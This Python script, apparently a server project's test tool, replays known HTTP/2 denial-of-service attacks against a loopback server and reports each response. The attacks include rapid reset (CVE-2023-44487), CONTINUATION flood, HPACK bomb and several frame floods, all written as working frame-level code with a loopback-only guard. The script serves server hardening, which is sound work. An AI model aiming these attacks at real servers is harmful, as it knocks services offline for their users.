#!/usr/bin/env python3
"""Replays the known HTTP/2 denial-of-service attacks against a running
server on loopback and prints what the server did with each.

    scripts/h2attack.py 127.0.0.1:8889            # h2c, prior knowledge
    scripts/h2attack.py --tls 127.0.0.1:8443      # TLS, ALPN h2
    scripts/h2attack.py -a rapid-reset,ping-flood 127.0.0.1:8889

Attacks (each bounded in count and time, one connection each):
  rapid-reset     open a stream and cancel it at once, again and again
                  (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames
                  that never end the block (the 2024 CONTINUATION flood)
  hpack-bomb      one big header in the dynamic table, then a header block
                  that references it thousands of times
  table-size      a dynamic table size update above what the server allows
  ping-flood      PING frames without reading the ACKs
  settings-flood  SETTINGS frames without reading the ACKs
  empty-data      a POST whose body is an endless run of empty DATA frames
  priority-flood  PRIORITY frames on idle streams
  window-flood    WINDOW_UPDATE frames of increment 1
  streams         200 streams opened at once and left open (the limit is
                  SETTINGS_MAX_CONCURRENT_STREAMS)
  zero-window     INITIAL_WINDOW_SIZE 0, ask for an answer, never open the
                  window: how long the server keeps the stream

Only loopback targets are accepted. Standard library only.
"""

import argparse
import ipaddress
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ERRORS = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
    "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
# Every attack stops after this long, whatever the server does.
ATTACK_SECONDS = 10.0


def code_name(code):
    return ERRORS[code] if code < len(ERRORS) else f"0x{code:x}"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + length_prefixed(value)


def length_prefixed(value):
    n = len(value)
    if n < 127:
        return bytes([n]) + value
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out) + value


# :status values of the HPACK static table (RFC 7541 appendix A).
STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}


def status_of(payload, flags):
    """The :status of a HEADERS frame whose block starts with it: an
    indexed field, or a literal (not Huffman-coded) naming index 8."""
    block = payload
    if flags & 0x8:  # PADDED
        block = block[1:len(block) - block[0]]
    if flags & 0x20:  # PRIORITY
        block = block[5:]
    if not block:
        return "?"
    first = block[0]
    if first & 0x80:
        return STATIC_STATUS.get(first & 0x7F, "?")
    index = first & (0x3F if first & 0x40 else 0x0F)
    if index == 8 and len(block) > 2 and not block[1] & 0x80:
        return block[2:2 + (block[1] & 0x7F)].decode(errors="replace")
    return "?"


def request_block(authority, path=b"/", method=b"GET"):
    """GET (or POST) https-less request from static-table entries and literals."""
    block = bytearray()
    block += b"\x82" if method == b"GET" else b"\x83"  # :method GET / POST
    block += b"\x86"  # :scheme http
    block += b"\x84" if path == b"/" else b"\x04" + length_prefixed(path)  # :path
    block += b"\x01" + length_prefixed(authority)  # :authority, literal without indexing
    return bytes(block)


class Peer:
    """One HTTP/2 client connection that sends raw frames and reads what comes."""

    def __init__(self, host, port, tls, settings=b""):
        raw = socket.create_connection((host, port), timeout=5)
        if tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            raw = ctx.wrap_socket(raw, server_hostname=host)
            if raw.selected_alpn_protocol() != "h2":
                raise SystemExit(f"ALPN chose {raw.selected_alpn_protocol()!r}, not h2")
        self.sock = raw
        self.buf = b""
        self.closed = False
        self.goaway = None  # (last stream, code)
        self.resets = {}  # stream -> code
        self.answered = {}  # stream -> the status of its HEADERS answer
        self.bytes_in = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def pump(self, wait=0.0):
        """Reads what has arrived (waiting up to `wait` s for the first bytes)."""
        if self.closed:
            return
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    break
                self.bytes_in += len(chunk)
                self.buf += chunk
                self.sock.settimeout(0.0001)
        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError:
            self.closed = True
        self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if kind == GOAWAY and len(payload) >= 8:
                last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                self.goaway = (last, int.from_bytes(payload[4:8], "big"))
            elif kind == RST_STREAM and len(payload) == 4:
                self.resets[stream] = int.from_bytes(payload, "big")
            elif kind == HEADERS:
                self.answered[stream] = status_of(payload, flags)
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))

    def wait_end(self, seconds):
        """Reads until the server closes or says GOAWAY, at most `seconds`."""
        deadline = time.monotonic() + seconds
        while not self.closed and self.goaway is None and time.monotonic() < deadline:
            self.pump(0.05)

    def verdict(self):
        parts = []
        if self.goaway:
            parts.append(f"GOAWAY {code_name(self.goaway[1])} (last stream {self.goaway[0]})")
        if self.resets:
            codes = {}
            for c in self.resets.values():
                codes[code_name(c)] = codes.get(code_name(c), 0) + 1
            parts.append("RST_STREAM " + ", ".join(f"{k} x{v}" for k, v in sorted(codes.items())))
        parts.append("closed" if self.closed else "still open")
        return "; ".join(parts)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def until(deadline):
    return time.monotonic() < deadline


def rapid_reset(p, authority):
    sent = 0
    deadline = time.monotonic() + ATTACK_SECONDS
    stream = 1
    while sent < 20000 and until(deadline) and not p.closed and p.goaway is None:
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(authority))
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
            sent += 1
        p.send(burst)
        p.pump()
    p.wait_end(2)
    return f"{sent} streams opened and cancelled, {len(p.answered)} answered"


def continuation(p, authority):
    block = request_block(authority)
    p.send(frame(HEADERS, 0, 1, block))
    junk = literal(b"x-junk", b"a" * 16000)
    sent = 0
    deadline = time.monotonic() + ATTACK_SECONDS
    while sent < 4000 and until(deadline) and not p.closed and p.goaway is None:
        if not p.send(frame(CONTINUATION, 0, 1, junk)):
            break
        sent += 1
        if sent % 16 == 0:
            p.pump()
    p.wait_end(2)
    return f"{sent} CONTINUATION frames ({sent * len(junk) // 1024} KiB) sent before the end"


def hpack_bomb(p, authority):
    big = b"a" * 4000
    # Literal with incremental indexing, new name: enters the dynamic table (index 62).
    first = request_block(authority) + b"\x40" + bytes([6]) + b"x-bomb" + length_prefixed(big)
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
    p.pump(0.5)
    bomb = request_block(authority) + b"\xbe" * 15000  # indexed field 62, 15000 times
    # Split in frames of at most 16 KiB.
    first_chunk, rest = bomb[:16000], bomb[16000:]
    flags = END_STREAM | (0 if rest else END_HEADERS)
    data = frame(HEADERS, flags, 3, first_chunk)
    while rest:
        chunk, rest = rest[:16000], rest[16000:]
        data += frame(CONTINUATION, 0 if rest else END_HEADERS, 3, chunk)
    p.send(data)
    p.wait_end(3)
    status = f"answered {p.answered[3]}" if 3 in p.answered else "not answered"
    return f"a 15 KiB block that decodes to {15000 * 4000 // 1024 // 1024} MiB: stream 3 {status}"


def table_size(p, authority):
    # Dynamic table size update (001xxxxx) to 1 MiB, above the 4096 allowed.
    update = b"\x3f" + bytes([0xE1, 0xFF, 0x3F])
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, update + request_block(authority)))
    p.wait_end(3)
    return "a table size update to 1 MiB"


def flood(p, make, what, limit=200000):
    sent = 0
    deadline = time.monotonic() + ATTACK_SECONDS
    while sent < limit and until(deadline) and not p.closed and p.goaway is None:
        batch = b"".join(make(sent + i) for i in range(500))
        if not p.send(batch):
            break
        sent += 500
        if sent % 5000 == 0:
            p.pump()
    p.wait_end(2)
    return f"{sent} {what} sent"


def ping_flood(p, _authority):
    return flood(p, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), "PING frames")


def settings_flood(p, _authority):
    return flood(p, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), "SETTINGS frames")


def empty_data(p, authority):
    p.send(frame(HEADERS, END_HEADERS, 1, request_block(authority, method=b"POST")))
    return flood(p, lambda i: frame(DATA, 0, 1), "empty DATA frames")


def priority_flood(p, _authority):
    return flood(
        p,
        lambda i: frame(PRIORITY, 0, 2 * (i % 1000) + 1001, struct.pack(">IB", 0, 15)),
        "PRIORITY frames",
    )


def window_flood(p, _authority):
    return flood(p, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), "WINDOW_UPDATE frames", 100000)


def streams(p, authority):
    data = b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 1, request_block(authority, method=b"POST")) for i in range(200)
    )
    p.send(data)
    deadline = time.monotonic() + 3
    while until(deadline) and not p.closed and len(p.resets) < 72:
        p.pump(0.05)
    refused = sum(1 for c in p.resets.values() if c == 7)
    return f"200 streams opened and left open: {refused} refused"


def zero_window(p, authority):
    # The SETTINGS with INITIAL_WINDOW_SIZE 0 went out with the preface (see main).
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(authority)))
    start = time.monotonic()
    deadline = start + 60
    while until(deadline) and not p.closed and p.goaway is None and 1 not in p.resets:
        p.pump(0.1)
    took = time.monotonic() - start
    return f"a stream that may never send: ended after {took:.1f} s"


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "table-size": table_size,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "empty-data": empty_data,
    "priority-flood": priority_flood,
    "window-flood": window_flood,
    "streams": streams,
    "zero-window": zero_window,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("target", help="HOST:PORT on loopback")
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (certificates not checked)")
    ap.add_argument("-a", "--attacks", default=",".join(ATTACKS), help="comma-separated list")
    ap.add_argument("--authority", default="localhost")
    args = ap.parse_args()
    host, _, port = args.target.rpartition(":")
    host = host.strip("[]")
    if not ipaddress.ip_address(socket.gethostbyname(host) if host != "::1" else host).is_loopback:
        raise SystemExit("only loopback targets (127.0.0.0/8, ::1)")
    authority = args.authority.encode()
    for name in args.attacks.split(","):
        attack = ATTACKS[name]
        settings = struct.pack(">HI", 4, 0) if name == "zero-window" else b""
        start = time.monotonic()
        try:
            p = Peer(host, int(port), args.tls, settings)
        except OSError as e:
            print(f"{name:15} could not connect: {e}")
            continue
        try:
            what = attack(p, authority)
        except OSError as e:
            what = f"error: {e}"
        took = time.monotonic() - start
        print(f"{name:15} {what}; server: {p.verdict()} [{took:.1f} s]")
        sys.stdout.flush()
        p.close()


if __name__ == "__main__":
    main()
